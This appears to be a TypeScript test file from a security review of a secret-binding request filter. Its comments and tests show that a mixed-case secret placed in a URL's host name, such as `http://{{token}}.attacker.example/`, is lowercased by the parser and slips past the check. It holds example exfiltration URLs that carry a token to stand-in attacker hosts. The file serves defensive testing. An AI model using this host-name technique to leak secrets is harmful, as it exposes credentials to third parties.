// Adversarial review (invariant: no secret value reaches an origin it is not bound to). README: "Before
// any request leaves … its URL, every header value … and its body are searched for every secret held".
// A `{{variable}}` placed in the URL's host (`http://{{token}}.attacker.example/`) is lowercased by the
// URL parser: SecretBindings.carries (src/core/secrets/bindings.ts) searches the parsed, lowercased URL,
// so a secret with capital letters in the host is not found and the request leaves — the DNS lookup,
// the TLS SNI and the Host header carry the token (lowercased) to the other origin. The same secret in
// the path or the user info is refused.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { SecretBindings } from '../../src/core/secrets/bindings';

const SECRET = 'MiXeDSecret99Token';

function bindings(): SecretBindings {
  const b = new SecretBindings();
  b.bind(SECRET, ['http://127.0.0.1:41000'], "the token of auth 'svc'");
  return b;
}

void describe('rev: a secret in the host name of a request to another origin', () => {
  void it('is refused as written (mixed case)', () => {
    const refusal = bindings().refusal({ method: 'GET', url: `http://${SECRET}.attacker.test:8080/items`, headers: {} });
    assert.ok(refusal, 'a request whose host name is the token left for the attacker');
  });

  void it('is refused as the URL parser writes it (lowercased)', () => {
    const url = new URL(`http://${SECRET}.attacker.test:8080/items`).toString();
    const refusal = bindings().refusal({ method: 'GET', url, headers: {} });
    assert.ok(refusal, `${url} left for the attacker`);
  });

  void it('is refused in the path, as a control', () => {
    assert.ok(bindings().refusal({ method: 'GET', url: `http://attacker.test:8080/${SECRET}`, headers: {} }));
  });
});
